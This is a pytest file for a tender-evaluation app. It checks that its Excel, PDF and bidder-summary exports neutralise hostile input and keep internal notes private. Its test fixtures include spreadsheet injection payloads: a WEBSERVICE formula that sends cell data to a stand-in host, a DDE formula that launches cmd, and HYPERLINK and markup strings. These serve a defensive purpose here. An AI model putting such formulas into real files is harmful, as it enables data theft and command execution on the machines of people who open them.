"""The exports reopened as their readers would: openpyxl, LibreOffice, pdftotext."""

from __future__ import annotations

import shutil
import subprocess
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from svi_desktop.cli import main as svi
from svi_desktop.domain.model import Consensus
from svi_desktop.domain.scoring import compute_results
from svi_desktop.exports.report import write_report
from svi_desktop.exports.summaries import write_summaries
from svi_desktop.exports.workbook import Cancelled, write_workbook
from svi_desktop.imports.demo import demo_evaluation
from tests.helpers.pdf import pdf_text

PAYLOADS = ['=HYPERLINK("http://x","y")', "+1+2", "-3*4", "@SUM(A1:A2)", "\tleading tab", "\rcarriage return",
            "=1+1", "bell\x07 and escape\x1b inside"]
MARKUP = '<font color="red">red</font> <img src="evil.png"/> & <b>bold</b> "quoted" \'single\''
INTERNAL = "INTERNAL-NOTE-7731: the panel thought the director was evasive"


def hostile_demo():
    ev = demo_evaluation()
    bids = list(ev.bids)
    bids[0] = replace(bids[0], supplier=PAYLOADS[0])
    bids[3] = replace(bids[3], supplier=MARKUP)
    scores = list(ev.scores)
    for i, p in enumerate(PAYLOADS):
        scores[i] = replace(scores[i], rationale=p)
    scores[20] = replace(scores[20], rationale=MARKUP)
    target = bids[2]  # Valley: put an internal note on one of its criteria, with feedback for the bidder
    crit = ev.framework.criteria[12]
    consensus = (*ev.consensus, Consensus(target.id, crit.id, 2, INTERNAL, "Feedback the bidder may read."))
    return replace(ev, bids=tuple(bids), scores=tuple(scores), consensus=consensus)


def test_workbook_sheets_formulas_and_injection(tmp_path: Path) -> None:
    ev = hostile_demo()
    path = write_workbook(ev, tmp_path / "e.xlsx", [])
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Summary", "Framework", "Scores", "Matrix", "Individual scores", "Moderation log",
                             "Commitments", "Bids", "Audit log"]  # the demo's bids carry commitments; it has no lots
    su = wb["Summary"]
    assert su.freeze_panes == "B2" and su.auto_filter.ref
    total = su.cell(2, 7).value
    first = compute_results(ev).ranked[0].bid  # the Summary is in rank order
    srow = 2 + [b.id for b in ev.bids].index(first.id)
    assert total == f'=IF(Scores!E{srow}=1,SUM(D2:F2),"")'
    assert su.cell(2, 5).value.startswith(f"=Share_3*(W_18_Q1*IF(ISNUMBER(Scores!W{srow})")  # Q1: 18th criterion
    assert "_xlfn.MINIFS(Prices,Eligible,1)" in su.cell(2, 6).value
    for name in ("W_18_Q1", "T_1_SVI1", "Share_2", "ScaleMin", "ScaleMax", "Prices", "Eligible"):
        assert name in wb.defined_names
    assert su._charts, "a native chart of totals"
    assert (su._charts[0].y_axis.scaling.min, su._charts[0].y_axis.scaling.max) == (0, 100)
    # Every payload is a text cell, never a formula.
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(
                        key in cell.value for key in ("HYPERLINK", "+1+2", "-3*4", "@SUM", "leading tab",
                                                      "carriage return", "=1+1", "bell")):
                    texts.append(cell)
    found = {c.value for c in texts}
    assert PAYLOADS[0] in found and "+1+2" in found and "@SUM(A1:A2)" in found and "\tleading tab" in found
    for cell in texts:
        if cell.value in PAYLOADS[:7]:
            assert cell.data_type == "s", (cell.coordinate, cell.value)
    assert "bell␇ and escape␛ inside" in found  # control characters made visible, not fatal
    assert any("carriage return" in v for v in found)


def pdftext(path: Path) -> str:
    return pdf_text(path, layout=True)


def test_report_prints_markup_literally_and_is_footed(tmp_path: Path) -> None:
    ev = hostile_demo()
    path = write_report(ev, tmp_path / "r.pdf", [], None)
    text = pdftext(path)
    flat = " ".join(text.split())
    assert '<font color="red">red</font> <img src="evil.png"/> &' in flat
    assert "Evaluation report" in text and "DRAFT" in text and "Sign-off" in text and "Contents" in text
    assert "88.05" in text  # Moorside's total (it is still Moorside's bid, renamed)
    pages = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True).stdout
    n = int(next(line.split()[-1] for line in pages.splitlines() if line.startswith("Pages")))
    assert f"page {n} of {n}" in text and "page 1 of" in text and "record digest" in text
    rendered = subprocess.run(["pdftoppm", "-png", "-r", "30", "-f", "1", "-l", "1", str(path), str(tmp_path / "p")])
    assert rendered.returncode == 0 and list(tmp_path.glob("p*.png"))


def test_summaries_hold_no_internal_note(tmp_path: Path) -> None:
    ev = hostile_demo()
    made = write_summaries(ev, tmp_path / "s", [])
    assert len(made) == 4
    texts = {p.name: " ".join(pdftext(p).split()) for p in made}
    for name, text in texts.items():
        assert "INTERNAL-NOTE" not in text, name
        for s in ev.scores:  # no evaluator's rationale either
            if len(s.rationale) > 40 and s.rationale != MARKUP:  # MARKUP is also a supplier's name
                assert s.rationale[:40] not in text, name
    valley = next(t for n, t in texts.items() if "Valley" in n)
    assert "Feedback the bidder may read." in valley
    assert "Your bid ranked" in valley and "The most advantageous tender" in valley
    brightpath = next(t for n, t in texts.items() if "Brightpath" in n)
    assert "did not reach the threshold of every qualification gate" in brightpath
    assert "SVI10 Credibility" in brightpath
    markup = next(t for t in texts.values() if "evil.png" in t)
    assert '<img src="evil.png"/>' in markup


def test_cancel_leaves_nothing_behind(tmp_path: Path) -> None:
    ev = demo_evaluation()
    for writer, target in ((lambda p: write_workbook(ev, tmp_path / "c.xlsx", [], progress=p), "c.xlsx"),
                           (lambda p: write_report(ev, tmp_path / "c.pdf", [], None, progress=p), "c.pdf")):
        with pytest.raises(Cancelled):
            writer(lambda n: n < 50)
        assert not (tmp_path / target).exists()
        assert not list(tmp_path.glob(".*.part"))


def test_svi_export_commands(demo_file: Path, tmp_path: Path) -> None:
    from tests.helpers.award import complete_award_record

    assert svi(["export", "pdf", str(demo_file), str(tmp_path / "r.pdf"), "--final"]) == 2  # incomplete record
    assert not (tmp_path / "r.pdf").exists()
    complete_award_record(demo_file)
    assert svi(["award", "sign-off", str(demo_file), "--name", "Priya Shah", "--role", "Director"]) == 0
    assert svi(["export", "xlsx", str(demo_file), str(tmp_path / "w.xlsx"), "--final"]) == 0
    assert svi(["export", "pdf", str(demo_file), str(tmp_path / "r.pdf"), "--final"]) == 0
    assert svi(["export", "summaries", str(demo_file), str(tmp_path / "sums")]) == 0
    assert len(list((tmp_path / "sums").glob("*.pdf"))) == 4
    wb = openpyxl.load_workbook(tmp_path / "w.xlsx")
    assert wb["Audit log"].max_row > 1  # the file's real audit trail
    note = next(c.value for c in wb["Summary"]["A"] if isinstance(c.value, str) and "Record digest" in c.value)
    assert "Signed off by Priya Shah, Director, on " in note and not note.startswith("DRAFT")
    if shutil.which("pdftotext"):
        text = pdftext(tmp_path / "r.pdf")
        assert "FINAL" in text and "DRAFT" not in text


def test_codes_that_differ_only_in_punctuation_get_their_own_weights(tmp_path: Path) -> None:
    """Q-1, Q.1 and Q 1 once became one defined name, so every formula used the last one's weight."""
    ev = hostile_demo()
    quality = [c for c in ev.framework.criteria if c.code in ("Q1", "Q2", "Q3")]
    renamed = {quality[0].id: ("Q-1", "2"), quality[1].id: ("Q.1", "5"), quality[2].id: ("Q 1", "1")}
    criteria = tuple(replace(c, code=renamed[c.id][0], weight=Decimal(renamed[c.id][1])) if c.id in renamed else c
                     for c in ev.framework.criteria)
    ev = replace(ev, framework=replace(ev.framework, criteria=criteria))
    wb = openpyxl.load_workbook(write_workbook(ev, tmp_path / "e.xlsx", []))
    names = [n for n in wb.defined_names if n.startswith("W_") and n.endswith("Q_1")]
    assert len(names) == 3
    weights = {wb.defined_names[n].attr_text: n for n in names}
    assert len(weights) == 3  # three names, three cells
    fws = wb["Framework"]
    values = sorted(fws[wb.defined_names[n].attr_text.split("!")[1].replace("$", "")].value for n in names)
    assert values == [1.0, 2.0, 5.0]
    codes = [fws.cell(r, 1).value for r in range(2, fws.max_row) if fws.cell(r, 1).value in ("Q-1", "Q.1", "Q 1")]
    assert sorted(codes) == ["Q 1", "Q-1", "Q.1"]


def test_codes_section_names_and_scale_labels_are_text_too(tmp_path: Path) -> None:
    """A template or JSON document can carry =WEBSERVICE(...) as a criterion code, a section name or a scale label."""
    ev = demo_evaluation()
    fw = ev.framework
    evil = ['=WEBSERVICE("http://x/"&A1)', '=DDE("cmd","/c calc","x")', "+HYPERLINK(1)", "@NOW()"]
    criteria = (replace(fw.criteria[0], code=evil[0]), *fw.criteria[1:])
    sections = (replace(fw.sections[0], name=evil[1]), *fw.sections[1:])
    levels = (replace(fw.scale.levels[0], label=evil[2]), *fw.scale.levels[1:])
    scale = replace(fw.scale, name=evil[3], levels=levels)
    ev = replace(ev, framework=replace(fw, criteria=criteria, sections=sections, scale=scale))
    wb = openpyxl.load_workbook(write_workbook(ev, tmp_path / "e.xlsx", []))
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in evil:
                    seen.setdefault(cell.value, []).append(cell)
    assert set(seen) == set(evil)
    assert all(c.data_type == "s" for cells in seen.values() for c in cells)
